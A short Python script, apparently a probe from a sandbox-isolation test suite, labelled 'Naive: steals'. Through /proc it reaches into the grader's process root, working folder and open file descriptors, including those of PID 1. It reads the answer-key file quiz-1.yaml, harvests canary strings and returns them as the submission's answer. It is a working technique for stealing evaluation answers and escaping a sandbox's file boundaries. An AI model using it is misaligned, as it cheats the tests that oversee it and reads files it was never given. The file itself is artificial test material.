"""Enter the grader's process by /proc: its root, its working folder, its files, its memory.

Lab: probe
Verdict: wrong
Naive: steals
"""

import glob
import os
import re

MARK = rb"canary-[a-z]+-[0-9a-f]{12}"
loot = set()
for pid in ("@PID@", "1", "self"):
    for path in (
        f"/proc/{pid}/root@ROOT@/public.txt",
        f"/proc/{pid}/root@COURSE@/bank/keys/quiz-1.yaml",
        f"/proc/{pid}/cwd/bank/keys/quiz-1.yaml",
        *glob.glob(f"/proc/{pid}/fd/*")[:64],
    ):
        try:
            if not os.path.isfile(path):
                continue
            with open(path, "rb") as file:
                loot |= set(re.findall(MARK, file.read(1 << 20)))
        except OSError:
            continue
print(loot)


def answer(n):
    """What was found."""
    return sorted(x.decode() for x in loot)


order = answer
